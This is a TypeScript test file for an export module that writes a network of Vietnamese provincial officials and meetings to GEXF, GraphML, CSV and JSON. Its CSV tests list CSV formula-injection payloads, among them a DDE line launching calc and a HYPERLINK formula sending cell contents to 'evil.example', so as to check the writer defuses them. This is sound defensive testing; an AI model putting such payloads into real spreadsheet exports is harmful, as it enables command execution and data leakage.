// Every export is read back by the parser a user's tool would use: graphology's GEXF and
// GraphML parsers (the formats Gephi opens), a CSV reader, JSON.parse.
import Graph, { MultiDirectedGraph } from 'graphology';
import { parse as parseGexf } from 'graphology-gexf';
import { parse as parseGraphml } from 'graphology-graphml';
import { VIEW_FORMATS, exportFileName, renderExport, toCsv, toGexf, toGraphml, tenuresToCsv, participationsToCsv, toJson } from '../../src/export';
import { NETWORK, PARTICIPATIONS, TENURES } from './network-fixture';

/** A small RFC 4180 reader, so the test does not trust the writer's own idea of quoting. */
function readCsv(text: string): string[][] {
  expect(text.startsWith('\ufeff')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 1; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe('GEXF', () => {
  it('parses back with every node, edge, label and attribute', () => {
    const g = parseGexf(Graph, toGexf(NETWORK), { allowUndeclaredAttributes: true });
    expect(g.order).toBe(4);
    expect(g.size).toBe(4); // the edge to the dropped node is not written
    expect(g.getNodeAttribute('person/an-giang/lê-hồng-quang', 'label')).toBe('Lê Hồng Quang');
    expect(g.getNodeAttribute('org/an-giang/tinh-uy', 'category')).toBe('party-committee');
    expect(g.getNodeAttribute('org/an-giang/tinh-uy', 'level')).toBe('PROVINCE');
    expect(g.getNodeAttribute('meeting/an-giang/2021-06-09/x', 'label')).toBe('Làm việc <khối> "dân vận" & MTTQ');
    const met = g.edges('person/an-giang/lê-hồng-quang', 'person/an-giang/lê-văn-nưng');
    expect(met).toHaveLength(1);
    expect(g.getEdgeAttribute(met[0], 'weight')).toBe(3);
    expect(g.getEdgeAttribute(met[0], 'relation')).toBe('MET');
  });

  it('keeps both relations between one pair (a multigraph)', () => {
    const g = parseGexf(Graph, toGexf(NETWORK));
    const relations = g.edges('person/an-giang/lê-hồng-quang', 'meeting/an-giang/2021-06-09/x').map((e) => g.getEdgeAttribute(e, 'relation')).sort();
    expect(relations).toEqual(['ATTENDED', 'CHAIRED']);
  });

  it('carries the drawn positions, sizes and colours for Gephi', () => {
    const g = parseGexf(Graph, toGexf(NETWORK, { 'org/an-giang/tinh-uy': { x: 12.5, y: -3, size: 8, color: '#cc3311' } }));
    const a = g.getNodeAttributes('org/an-giang/tinh-uy');
    expect(a.x).toBe(12.5);
    expect(a.y).toBe(-3);
    expect(a.size).toBe(8);
    expect(a.color).toMatch(/204,\s*51,\s*17|#cc3311/i);
  });
});

describe('GraphML', () => {
  it('parses back with typed attributes', () => {
    const g = parseGraphml(MultiDirectedGraph, toGraphml(NETWORK, { 'person/an-giang/lê-văn-nưng': { x: 1.5, y: 2 } }));
    expect(g.order).toBe(4);
    expect(g.size).toBe(4);
    expect(g.getNodeAttribute('meeting/an-giang/2021-06-09/x', 'label')).toBe('Làm việc <khối> "dân vận" & MTTQ');
    expect(g.getNodeAttribute('person/an-giang/lê-hồng-quang', 'weight')).toBe(7);
    expect(g.getNodeAttribute('person/an-giang/lê-văn-nưng', 'x')).toBe(1.5);
    expect(g.getNodeAttribute('person/an-giang/lê-hồng-quang', 'x')).toBeUndefined();
    const met = g.edges('person/an-giang/lê-hồng-quang', 'person/an-giang/lê-văn-nưng');
    expect(g.getEdgeAttribute(met[0], 'weight')).toBe(3);
    expect(g.edges('person/an-giang/lê-hồng-quang', 'meeting/an-giang/2021-06-09/x')).toHaveLength(2);
  });

  it('an empty network is still a valid document', () => {
    const g = parseGraphml(MultiDirectedGraph, toGraphml({ nodes: [], edges: [] }));
    expect(g.order).toBe(0);
  });
});

describe('CSV', () => {
  it('tenures: one row each, commas, quotes and newlines survive, formulas are defused', () => {
    const rows = readCsv(tenuresToCsv(TENURES));
    expect(rows[0].slice(0, 13)).toEqual(['person_id', 'person', 'title', 'organization_id', 'organization', 'province', 'district', 'status', 'current', 'first_seen', 'last_seen', 'source_urls', 'source_articles']);
    expect(rows[0].slice(13)).toEqual(['position_id', 'state', 'start', 'start_basis', 'end', 'end_basis', 'citations', 'quote']);
    expect(rows).toHaveLength(3);
    expect(rows[1].slice(1, 3)).toEqual(['Lê Hồng Quang', 'Bí thư']);
    expect(rows[1][11]).toBe('https://example.vn/a?x=1,2');
    expect(rows[1][12]).toBe('a1 a2');
    expect(rows[2][1]).toBe('Nguyễn "Văn" A');
    expect(rows[2][2]).toBe('Phó Chủ tịch, Thường trực');
    expect(rows[2][4]).toBe("'=cmd()");
    expect(rows[2][9]).toBe('');
  });

  it.each([
    ['=cmd|\' /C calc\'!A0'],
    ['+1+1'],
    ['-1+HYPERLINK("https://evil.example/?leak="&A1,"xem")'],
    ['-2'],
    ['--05-13'],
    ['@SUM(1+1)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('a text a spreadsheet would evaluate is made text: %j', (payload) => {
    const text = tenuresToCsv([{ ...TENURES[0], personName: payload, title: payload }]);
    const rows = readCsv(text);
    expect(rows[1][1]).toBe(`'${payload}`);
    expect(rows[1][2]).toBe(`'${payload}`);
    // No cell of the file, as a spreadsheet splits it, starts with a formula character.
    for (const c of rows.flat()) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('numbers stay numbers in numeric columns, negative ones too; a number in a text column is guarded text; harmless text is unchanged', () => {
    const text = toCsv(['label', 'weight', 'x'], [['-1+HYPERLINK("x")', -3, -0.5], ['Đồng chí A', 12, 0], [' =1', 1e21, null], [-2, '-2', 'x']], ['weight', 'x']);
    expect(text.split('\r\n').slice(1, 5)).toEqual([`"'-1+HYPERLINK(""x"")",-3,-0.5`, 'Đồng chí A,12,0', ' =1,1e+21,', `"'-2","'-2",x`]);
  });

  it('meeting participation: roles joined, a title with a newline stays one cell', () => {
    const rows = readCsv(participationsToCsv(PARTICIPATIONS));
    expect(rows).toHaveLength(2);
    expect(rows[1][2]).toBe('Làm việc\nvới khối dân vận');
    expect(rows[1][7]).toBe('true');
    expect(rows[1][8]).toBe('CHAIRED|SPOKE');
  });
});

describe('JSON and the format switch', () => {
  const bundle = { province: 'An Giang', network: NETWORK, tenures: TENURES, participations: PARTICIPATIONS };

  it('JSON holds the whole bundle', () => {
    const doc = JSON.parse(toJson(bundle, { 'org/an-giang/tinh-uy': { x: 1, y: 2 } }));
    expect(doc.province).toBe('An Giang');
    expect(doc.network.nodes).toHaveLength(4);
    expect(doc.network.nodes.find((n: { id: string }) => n.id === 'org/an-giang/tinh-uy')).toMatchObject({ x: 1, y: 2 });
    expect(doc.network.truncated).toBe(true);
    expect(doc.tenures).toHaveLength(2);
    expect(doc.participations[0].roles).toEqual(['CHAIRED', 'SPOKE']);
  });

  it('every format renders, and file names drop diacritics', () => {
    for (const f of VIEW_FORMATS) expect(renderExport(f, bundle).length).toBeGreaterThan(50);
    expect(exportFileName('Thanh Hóa', 'gexf')).toBe('thanh-hoa-province-network.gexf');
    expect(exportFileName('Đắk Lắk', 'csv-tenures', 'view')).toBe('dak-lak-view-tenures.csv');
  });
});
